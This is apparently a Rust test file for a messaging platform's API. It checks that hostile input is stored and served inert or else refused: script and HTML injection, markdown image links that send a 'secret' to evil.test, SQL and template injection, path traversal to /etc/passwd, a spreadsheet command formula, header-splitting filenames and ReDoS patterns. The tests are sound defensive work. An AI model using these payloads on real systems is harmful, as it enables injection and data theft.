//! Text and files that want to be more than that: kept as they came, and served inert.

use crate::things::Things;
use crate::world::{Ask, Got, World};
use serde_json::{Value, json};

/// Texts that do something somewhere.
const TEXTS: [&str; 14] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "![x](https://evil.test/?q=secret) [y]: https://evil.test/y.png <https://evil.test> [z](javascript:alert(1))",
    "</textarea></script><!-- -->",
    "\u{0}nul\u{0}",
    "\u{1}\u{7}\u{8}\u{b}\u{c}\u{1b}[31mred\u{1b}]0;title\u{7}\u{7f}\u{9b}",
    "\u{202e}txt.exe\u{202c} \u{2066}\u{2069} \u{200b}\u{200d}\u{feff}",
    "line\u{2028}separator\u{2029}paragraph\r\ndata: forged\r\n\r\nevent: forged",
    "e\u{301}\u{301}\u{301}\u{301} \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{10ffff}\u{e000}\u{fffd}",
    "'; DROP TABLE records; -- %s %n {{7*7}} ${7*7} #{7*7}",
    "../../../etc/passwd\\..\\..\\",
    "\u{feff}{\"type\":\"ask\"}",
    "=cmd|' /C calc'!A0",
    "@person/nobody @operator/../../x @@person/ann",
];

/// Said of every answer that holds what somebody wrote: a browser neither runs nor guesses it.
fn inert(got: &Got) {
    assert_eq!(got.status.as_u16(), 200, "{}", got.text());
    assert_eq!(got.header("x-content-type-options"), "nosniff");
    let policy = got.header("content-security-policy");
    assert!(policy.starts_with("default-src 'none'") && policy.ends_with("sandbox"), "{policy}");
    assert_eq!(got.header("cache-control"), "no-store");
}

#[tokio::test(start_paused = true)]
async fn ui_04_hostile_text_is_kept_as_it_came_and_served_as_data_only() {
    let things = Things::new().await;
    let world = &things.world;
    let long = "x".repeat(500_000);
    for text in TEXTS.iter().copied().chain([long.as_str()]) {
        let blocks = json!([
            {"type": "markdown", "text": text}, {"type": "hologram", "depth": text},
            {"type": "result", "json": {"nested": [text]}},
        ]);
        let said = Ask::post(format!("/v1/conversations/{}/messages", things.conversation)).by(&world.ann);
        let got = world.send(said.json(json!({"blocks": blocks}))).await;
        let got = if got.status.as_u16() == 413 { continue } else { got.json() };
        let message = got["message"]["id"].as_str().unwrap().to_owned();
        let read = world.send(Ask::get(format!("/v1/messages/{message}")).by(&world.ben)).await;
        inert(&read);
        assert_eq!((read.json()["blocks"].clone(), read.header("content-type")), (blocks, "application/json"));
    }
    for text in TEXTS {
        let title: String = text.chars().take(200).collect();
        let change = Ask::new("patch", format!("/v1/conversations/{}", things.conversation)).by(&world.ann);
        assert_eq!(world.send(change.json(json!({"title": title}))).await.json()["title"], title.as_str());
    }
    for (path, kind) in [
        ("", "application/json"),
        ("/messages?limit=200", "application/json"),
        ("/export", "application/json"),
        ("/export?format=markdown", "text/markdown; charset=utf-8"),
    ] {
        let got = world.send(Ask::get(format!("/v1/conversations/{}{path}", things.conversation)).by(&world.ben)).await;
        inert(&got);
        assert_eq!(got.header("content-type"), kind, "{path}");
        let saved = got.header("content-disposition").starts_with("attachment; filename=\"con_");
        assert_eq!(saved, path.starts_with("/export"), "{path}");
    }
}

#[tokio::test(start_paused = true)]
async fn hostile_text_stays_within_its_event_of_a_stream() {
    let things = Things::new().await;
    let world = &things.world;
    let mut stream =
        world.listen(&world.ben, format!("/v1/stream?feed=conversation/{}", things.conversation), None).await;
    stream.events().await;
    for text in TEXTS {
        world.say(&world.ann, &things.conversation, text).await;
    }
    let told: Vec<_> = stream.events().await.iter().map(|sent| (sent.event.clone(), sent.json())).collect();
    let texts: Vec<_> =
        told.iter().map(|(_, data)| data["event"]["message"]["blocks"][0]["text"].as_str().unwrap()).collect();
    assert!(told.iter().all(|(event, _)| event == "message"));
    assert_eq!(texts, TEXTS);
    // Besides line feeds nothing ends a line for a client of streams, and those stand escaped.
    assert!(!stream.raw.contains('\r') && !stream.raw.contains('\0'));
}

#[tokio::test(start_paused = true)]
async fn json_that_is_hard_to_read_is_refused_or_kept_and_nothing_breaks() {
    let things = Things::new().await;
    let world = &things.world;
    let say = |body: String| {
        let ask = Ask::post(format!("/v1/conversations/{}/messages", things.conversation)).by(&world.ann);
        ask.text("application/json", body)
    };
    let text = |inside: &str| say(format!(r#"{{"blocks": [{{"type": "text", "text": "{inside}"}}]}}"#));
    let deep = |levels: usize| {
        let (open, close) = ("[".repeat(levels), "]".repeat(levels));
        say(format!(r#"{{"blocks": [{{"type": "hologram", "x": {open}{close}}}]}}"#))
    };
    let refused = [
        (text(r"\ud800"), "422 invalid blocks"),
        (text(r"\udc00\ud800"), "422 invalid blocks"),
        (text(r"\u12"), "400 malformed"),
        (text(r"\x41"), "400 malformed"),
        (text("\u{1}"), "400 malformed"),
        (deep(200), "422 invalid blocks"),
        (deep(300_000), "422 invalid blocks"),
        (say("{\"blocks\": ".repeat(100_000)), "422 invalid blocks"),
        (say(r#"{"blocks": [{"type": "text", "text": "a"}], "blocks": []}"#.into()), "422 invalid"),
        (say(r#"{"blocks": [{"type": "text", "text": NaN}]}"#.into()), "400 malformed"),
        (say(r#"{"blocks": [{"type": "text", "text": "a"}]}//"#.into()), "400 malformed"),
        (say("\u{feff}{\"blocks\": []}".into()), "400 malformed"),
        (say(r#"{"blocks": [{"type": "ask", "question": "x", "prompt": "forged"}]}"#.into()), "422 invalid blocks"),
        (say(r#"{"blocks": [{"type": "confirm"}]}"#.into()), "422 invalid blocks"),
        (say(r#"{"blocks": [{"type": "reply", "snapshot": {}}]}"#.into()), "422 invalid blocks"),
        (say(r#"{"blocks": [{"type": 7}]}"#.into()), "422 invalid blocks"),
        (say(r#"{"blocks": [{"type": "text", "text": 7}]}"#.into()), "422 invalid blocks"),
        (say(r#"{"blocks": [{"type": "text"}]}"#.into()), "422 invalid blocks"),
        (say(r#"{"blocks": [{}]}"#.into()), "422 invalid blocks"),
        (say(r#"{"blocks": [null]}"#.into()), "422 invalid blocks"),
    ];
    for (number, (ask, expected)) in refused.into_iter().enumerate() {
        let got = things.refused(ask).await;
        assert!(got.brief().starts_with(expected), "{number}: {} {}", got.brief(), got.text());
        assert!(got.text().len() < 2000, "{number}");
    }
    let raw = Ask::post(format!("/v1/conversations/{}/messages", things.conversation)).by(&world.ann);
    let bytes = b"{\"blocks\": [{\"type\": \"text\", \"text\": \"\xff\xfe\"}]}".to_vec();
    let raw = raw.header("content-type", "application/json; charset=utf-16").bytes(bytes);
    assert!(matches!(things.refused(raw).await.status.as_u16(), 400 | 422));
    for kept in [text(r"\ud83d\ude00 \u0000"), deep(50)] {
        assert_eq!(world.send(kept).await.brief(), "201");
    }
}

#[tokio::test(start_paused = true)]
async fn a_text_full_of_names_calls_few_and_takes_no_time() {
    let world = World::new().await;
    let conversation = world.conversation(&[]).await;
    let crowd: String = (0..60_000).map(|number| format!("@person/p{number} ")).collect();
    let message = world.say(&world.ann, &conversation, &crowd).await;
    assert_eq!(message.get("to"), None);
    let choices: Vec<_> = (0..60_000).map(|number| json!({"value": number.to_string()})).collect();
    let ask = json!({"kind": "ask", "prompt": "?", "timeout_s": 9, "choices": choices});
    let ask = Ask::post(format!("/v1/conversations/{conversation}/questions")).by(&world.root).json(ask);
    assert_eq!(world.send(ask).await.brief(), "422 invalid choices");
    let members: Vec<_> = (0..60_000).map(|number| format!("person/p{number}")).collect();
    let open = Ask::post("/v1/conversations").by(&world.ann).json(json!({"members": members}));
    assert_eq!(world.send(open).await.brief(), "422 invalid members");
}

#[tokio::test(start_paused = true)]
async fn a_form_that_refers_to_itself_or_elsewhere_harms_nobody() {
    let things = Things::new().await;
    let world = &things.world;
    let ask = |schema: &Value| {
        let new = json!({"kind": "ask", "prompt": "?", "timeout_s": 60, "schema": schema});
        Ask::post(format!("/v1/conversations/{}/questions", things.conversation)).by(&world.op).json(new)
    };
    for elsewhere in
        ["http://127.0.0.1:9/x.json", "https://evil.test/schema", "file:///etc/passwd", "urn:x", "#/nowhere"]
    {
        let got = things.refused(ask(&json!({"$ref": elsewhere}))).await;
        assert_eq!(got.brief(), "422 invalid schema", "{elsewhere}");
    }
    let chain: serde_json::Map<String, Value> = (0..1000)
        .map(|link| (format!("d{link}"), json!({"$ref": format!("#/$defs/d{}", (link + 1) % 1000)})))
        .collect();
    let nested = (0..100).fold(json!({"type": "string"}), |inner, _| json!({"not": inner}));
    let forms = [
        json!({"$ref": "#"}),
        json!({"allOf": [{"$ref": "#"}]}),
        json!({"$defs": {"a": {"$ref": "#/$defs/b"}, "b": {"$ref": "#/$defs/a"}}, "$ref": "#/$defs/a"}),
        json!({"$defs": chain, "$ref": "#/$defs/d0"}),
        json!({"$dynamicAnchor": "a", "$dynamicRef": "#a"}),
        json!({"properties": {"again": {"$ref": "#"}}}),
        json!({"pattern": "^(a+)+$"}),
        json!({"pattern": "(?=(a+)+b)"}),
        nested,
    ];
    let hundred = "a".repeat(100);
    let deep = (0..100).fold(json!({}), |inner, _| json!({"again": inner}));
    for form in forms {
        let got = world.send(ask(&form)).await;
        if got.status.as_u16() != 201 {
            assert_eq!(got.brief(), "422 invalid schema", "{form}");
            continue;
        }
        let id = got.json()["id"].as_str().unwrap().to_owned();
        for value in [json!(hundred), deep.clone()] {
            let answer = json!({"status": "answered", "value": value});
            let got = world.send(Ask::post(format!("/v1/questions/{id}/answer")).by(&world.ann).json(answer)).await;
            assert!(
                matches!(got.brief().as_str(), "200" | "422 invalid value" | "409 question_closed"),
                "{form} {}",
                got.text()
            );
        }
    }
}

/// Attaches a file and reads it back.
async fn file(world: &World, conversation: &str, name: &str, kind: &str) -> Got {
    let mut encoded = String::new();
    for byte in name.bytes() {
        encoded.push_str(&format!("%{byte:02X}"));
    }
    let path = format!("/v1/conversations/{conversation}/artifacts?name={encoded}");
    let got = world.send(Ask::post(path).by(&world.ann).text(kind, "<script>alert(1)</script>")).await;
    if got.status.as_u16() != 201 {
        return got;
    }
    assert_eq!(got.json()["name"], name);
    let got = world.send(Ask::get(got.header("location").to_owned()).by(&world.ann)).await;
    inert(&got);
    assert_eq!(got.text(), "<script>alert(1)</script>");
    got
}

#[tokio::test(start_paused = true)]
async fn a_file_is_saved_and_never_run_whatever_its_type_says() {
    let world = World::new().await;
    let conversation = world.conversation(&[]).await;
    let bytes = "application/octet-stream";
    let table = [
        ("text/html", bytes),
        ("TEXT/HTML; charset=utf-7", bytes),
        ("image/svg+xml", bytes),
        ("application/xhtml+xml", bytes),
        ("text/xml", bytes),
        ("text/javascript", bytes),
        ("application/wasm", bytes),
        ("multipart/x-mixed-replace; boundary=x", bytes),
        ("text/plain; charset=utf-8", "text/plain; charset=utf-8"),
        ("image/png", "image/png"),
        ("application/pdf", "application/pdf"),
    ];
    for (said, served) in table {
        let got = file(&world, &conversation, "x.html", said).await;
        assert_eq!(got.header("content-type"), served, "{said}");
        assert!(got.header("content-disposition").starts_with("attachment; filename=\"x.html\";"));
    }
    for wrong in ["", "html", "text/\u{e9}", &format!("text/{}", "x".repeat(300))] {
        let got = file(&world, &conversation, "x", wrong).await;
        assert!(matches!(got.status.as_u16(), 400 | 422), "{wrong} {}", got.text());
    }
}

#[tokio::test(start_paused = true)]
async fn a_name_of_a_file_is_a_name_and_not_a_path_or_a_header() {
    let world = World::new().await;
    let conversation = world.conversation(&[]).await;
    let long = "n".repeat(201);
    for wrong in [
        "",
        ".",
        "..",
        "../x",
        "a/b",
        "a\\b",
        "C:\\x",
        "x\r\nSet-Cookie: a=b",
        "x\0.txt",
        "x\u{1b}",
        "\u{202e}gpj.exe",
        "x\u{2066}y",
        &long,
    ] {
        assert_eq!(file(&world, &conversation, wrong, "text/plain").await.brief(), "422 invalid name", "{wrong:?}");
    }
    for (name, said) in [
        (
            "a\"; filename=\"b.exe",
            "attachment; filename=\"a_; filename=_b.exe\"; filename*=UTF-8''a%22%3B%20filename%3D%22b.exe",
        ),
        ("100%.txt", "attachment; filename=\"100_.txt\"; filename*=UTF-8''100%25.txt"),
        (
            "gr\u{fc}n \u{1f600}.txt",
            "attachment; filename=\"gr_n _.txt\"; filename*=UTF-8''gr%C3%BCn%20%F0%9F%98%80.txt",
        ),
        ("CON", "attachment; filename=\"CON\"; filename*=UTF-8''CON"),
    ] {
        assert_eq!(file(&world, &conversation, name, "text/plain").await.header("content-disposition"), said);
    }
}

#[tokio::test(start_paused = true)]
async fn files_beyond_the_limit_and_of_strangers_are_not_taken() {
    let config = loopd_platform::Config { artifact_bytes: 1000, ..loopd_platform::Config::default() };
    let things = Things::with(config).await;
    let world = &things.world;
    let attach = |token: &str, bytes: usize| {
        Ask::post(format!("/v1/conversations/{}/artifacts?name=x", things.conversation))
            .by(token)
            .bytes(vec![b'x'; bytes])
    };
    assert_eq!(things.refused(attach(&world.ann, 1001)).await.brief(), "413 too_large");
    assert_eq!(world.send(attach(&world.ann, 1000)).await.brief(), "201");
    assert_eq!(world.send(attach(&world.ann, 0)).await.brief(), "201");
    assert_eq!(things.refused(attach(&things.zoe, 1)).await.brief(), "404 not_found");
    assert_eq!(things.refused(attach(&world.eve, 1)).await.brief(), "403 forbidden");
    // A stranger's bytes are not even read.
    let never = axum::body::Body::from_stream(futures::stream::pending::<Result<axum::body::Bytes, std::io::Error>>());
    let ask = Ask::post(format!("/v1/conversations/{}/artifacts?name=x", things.conversation)).by(&things.zoe);
    assert_eq!(things.refused(ask.stream(never)).await.brief(), "404 not_found");
    let read = Ask::get(format!("/v1/artifacts/{}", things.artifact));
    assert_eq!(things.refused(read.by(&things.zoe)).await.brief(), "404 not_found");
}

#[tokio::test(start_paused = true)]
async fn an_operator_speaks_through_its_roles_and_nobody_through_others() {
    let things = Things::new().await;
    let world = &things.world;
    let say = |actor: &str| {
        let body = json!({"blocks": [{"type": "text", "text": "x"}], "actor": actor});
        Ask::post(format!("/v1/conversations/{}/messages", things.conversation)).by(&world.op).json(body)
    };
    let said = world.send(say("operator/op/plan")).await.json();
    assert_eq!(said["message"]["from"], "operator/op/plan");
    for other in ["operator/other", "operator/op2/plan", "person/ann", "harness/steps"] {
        assert_eq!(things.refused(say(other)).await.brief(), "403 forbidden", "{other}");
    }
    let ask = |reply_to: &str| {
        let new = json!({"kind": "confirm", "prompt": "Sure?", "timeout_s": 9, "reply_to": reply_to});
        Ask::post(format!("/v1/conversations/{}/questions", things.conversation)).by(&world.op).json(new)
    };
    let asked = world.send(ask(&things.message)).await.json();
    let shown =
        world.send(Ask::get(format!("/v1/messages/{}", asked["message"].as_str().unwrap())).by(&world.ann)).await;
    assert_eq!(shown.json()["reply_to"], things.message.as_str());
    let nowhere = format!("msg_{}", "0".repeat(32));
    assert_eq!(things.refused(ask(&nowhere)).await.brief(), "422 invalid reply_to");
}
